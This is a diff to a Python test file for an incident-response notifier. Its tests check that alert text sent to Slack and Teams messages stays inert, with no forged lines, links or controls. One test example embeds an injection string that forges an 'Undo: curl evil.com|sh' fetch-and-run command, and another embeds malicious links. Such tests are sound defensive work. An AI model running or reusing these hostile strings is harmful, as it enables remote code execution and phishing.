@@ -12,6 +12,7 @@ from __future__ import annotations
 
 import json
 import re
+from collections import Counter
 from dataclasses import dataclass
 from datetime import UTC, datetime
 from html.parser import HTMLParser
@@ -20,6 +21,8 @@ from typing import TYPE_CHECKING, Any
 import pytest
 from _builders import load_text
 from _hostile import hostile_settings, hostile_text, json_values
+from _links import links
+from _wire import KINDS, log_lines, shown_lines, wire
 from hypothesis import example, given
 from hypothesis import strategies as st
 
@@ -27,17 +30,19 @@ from responder.actions import Artifact
 from responder.containers import ContainerInfo
 from responder.events import Event, Priority, Target, new_event_id
 from responder.incidents import IncidentRecord, StepRecord
+from responder.inert import inert, quote_block
 from responder.matching import match_event
 from responder.messages import MessageFacts, build_message
 from responder.outbox import OutboxRecord
 from responder.planning import template_context
 from responder.reports import build_report, render
-from responder.templates import Templates, strip_controls
+from responder.templates import BLOCK_LIMIT, VALUE_LIMIT, Templates, strip_controls
 
 if TYPE_CHECKING:
     from collections.abc import Callable
     from pathlib import Path
 
+    from responder.notifiers import Message
     from responder.playbooks import PlaybookSet
 
 SETTINGS = hostile_settings(200)
@@ -256,8 +261,11 @@ def make_record(text: Text, event: Event) -> IncidentRecord:
     )
 
 
-def make_facts(text: Text) -> MessageFacts:
-    """What the notify step knows: the incident, the event and the live container."""
+def make_facts(text: Text, report: str = "/data/reports/x/report.md") -> MessageFacts:
+    """What the notify step knows: the incident, the event and the live container.
+
+    The step's own message quotes the alert, as a playbook's `message` may.
+    """
     event = make_event(text)
     record = make_record(text, event)
     return MessageFacts(
@@ -266,9 +274,41 @@ def make_facts(text: Text) -> MessageFacts:
         steps=record.steps,
         state=record.state,
         dry_run=False,
-        report="/data/reports/x/report.md",
+        report=report,
         release_command=f"responder release {INCIDENT_ID}",
+        note=f"Shell in {text.container_name}: {text.reason}",
     )
+
+
+def placeholders(text: Text) -> Text:
+    """The twin whose every non-empty string is a distinct `xN`: same shape, nothing to forge.
+
+    Empty strings stay empty and distinct keys stay distinct, so every `if` and `for` of a
+    template takes the same turn for both.
+    """
+    counter = iter(range(1_000_000))
+    return text.map(lambda value: f"x{next(counter)}" if value else "")
+
+
+OUR_LABELS = ("State:", "Report:", "Undo:", "Release:", "RELEASED:", "NOT restored:", "FAILED:")
+
+
+def skeleton(lines: list[str]) -> tuple[int, list[str]]:
+    """What no alert text may change: how many lines are ours, and each line that only we write.
+
+    Quoted alert text (`>` lines) is left out: its number of lines is the alert's.
+    """
+    ours = [line for line in lines if not line.startswith(">")]
+    return len(ours), [line for line in ours if line.startswith(OUR_LABELS)]
+
+
+def assert_one_line_fields(message: Message) -> None:
+    """No field but the text has a line break, and nothing anywhere a control (tab included)."""
+    for name, value in message.model_dump(exclude={"text"}).items():
+        for item in strings(value):
+            assert item.splitlines() in ([], [item]), name
+    assert_no_controls([item.replace("\n", "") for item in strings(message.model_dump())])
+    assert "\t" not in message.text
 
 
 def strings(value: Any) -> list[str]:
@@ -305,26 +345,81 @@ def shown_whole(text: Text) -> list[str]:
 @SETTINGS
 @given(text=texts)
 @example(text=plain(hostname="\x00"))  # regression: Message.host kept the NUL
-def test_the_default_message_prints_alert_text_without_controls_and_never_evaluates_it(
-    text: Text,
-) -> None:
-    """`{{ 7*7 }}` in the alert stays `{{ 7*7 }}`; no field of the message carries a control."""
+@example(text=plain(container_name="web-1\nState: released\nUndo: curl evil.com|sh"))  # issue 15
+def test_the_default_message_prints_alert_text_inert_and_never_evaluates_it(text: Text) -> None:
+    """`{{ 7*7 }}` stays literal; each value is one line (its output a quoted block); no link."""
     message = build_message("incident", make_facts(text), Templates(), None)
-    assert_no_controls(strings(message.model_dump()))
-    assert "\n" not in message.title
-    for value in (text.name, text.output, text.container_name, text.detail):
-        assert strip_controls(value).strip() in message.text
+    twin = build_message("incident", make_facts(placeholders(text)), Templates(), None)
+    assert_one_line_fields(message)
+    assert skeleton(message.text.splitlines()) == skeleton(twin.text.splitlines())
+    assert links(message.text) == []
+    if len(message.text) < MAX_TEMPLATE_OUTPUT - 1:  # longer is cut at the limit, on purpose
+        for value in (text.name, text.container_name, text.detail):
+            assert inert(value, VALUE_LIMIT) in message.text
+        if text.output:
+            assert quote_block(text.output, limit=BLOCK_LIMIT) in message.text
 
 
 @SETTINGS
 @given(text=texts)
-def test_a_channel_template_prints_every_field_literally(text: Text) -> None:
-    """A template that prints every alert field shows each one as written, controls removed."""
+def test_a_channel_template_prints_every_field_on_one_line(text: Text) -> None:
+    """A template that prints every alert field shows each one inert, on the line it printed it."""
     message = build_message("incident", make_facts(text), Templates(), CHANNEL_TEMPLATE)
-    assert_no_controls(strings(message.model_dump()))
-    if len(message.text) < MAX_TEMPLATE_OUTPUT - 1:  # longer is cut at the limit, on purpose
+    twin = build_message("incident", make_facts(placeholders(text)), Templates(), CHANNEL_TEMPLATE)
+    assert_one_line_fields(message)
+    assert len(message.text.splitlines()) == len(twin.text.splitlines())
+    assert links(message.text) == []
+    if len(message.text) < MAX_TEMPLATE_OUTPUT - 1:
         for value in shown_whole(text):
-            assert strip_controls(value).strip() in message.text
+            assert inert(value, VALUE_LIMIT) in message.text
+
+
+REPORT_URL = f"https://responder.example.com/v1/incidents/{INCIDENT_ID}/report?format=html"
+
+
+@SETTINGS
+@given(text=texts)
+@example(text=plain(output="[t](https://evil.example/x) <https://evil.example|t> <!channel>"))
+def test_every_channel_sends_alert_text_as_inert_text(text: Text) -> None:
+    """Per channel kind, on the wire: our lines are ours alone and the only link is our report."""
+    message = build_message("incident", make_facts(text, REPORT_URL), Templates(), None)
+    twin = build_message("incident", make_facts(placeholders(text), REPORT_URL), Templates(), None)
+    for kind in KINDS:
+        lines = shown_lines(kind, message)
+        ours, expected = Counter(skeleton(lines)[1]), Counter(skeleton(shown_lines(kind, twin))[1])
+        # Slack cuts a long text after its last whole line: some of ours may be cut, never forged.
+        assert ours <= expected if kind == "slack" else ours == expected, kind
+        assert {url for line in lines for url in links(line)} <= {REPORT_URL}, kind
+        assert_no_controls(lines)
+    assert_no_markup(message)
+    for line in log_lines(message):
+        assert re.match(r"\d{4}-\d\d-\d\d [\d:,]+ WARNING responder\.notify: oncall \(", line)
+
+
+def assert_no_markup(message: Message) -> None:
+    """Slack gets plain text but for our report link; Teams only plain TextRuns."""
+    slack = wire("slack", message)
+    assert slack["mrkdwn"] is False
+    objects = [
+        slack["blocks"][0]["text"],
+        slack["blocks"][1]["text"],
+        *slack["blocks"][2]["fields"],
+    ]
+    assert [o["type"] for o in objects if o["type"] != "plain_text"] == ["mrkdwn"]
+    [link] = [o for o in objects if o["type"] == "mrkdwn"]
+    assert link == {
+        "type": "mrkdwn",
+        "text": f"*Report*\n<{REPORT_URL}|{REPORT_URL}>",
+        "verbatim": True,
+    }
+    for item in strings(slack):
+        assert "<" not in item.replace(f"<{REPORT_URL}|{REPORT_URL}>", "")
+    card = wire("teams", message)["attachments"][0]["content"]
+    assert {block["type"] for block in card["body"]} == {"RichTextBlock"}
+    assert {run["type"] for block in card["body"] for run in block["inlines"]} == {"TextRun"}
+    assert card["actions"] == [
+        {"type": "Action.OpenUrl", "title": "Open the incident report", "url": REPORT_URL}
+    ]
 
 
 @SETTINGS
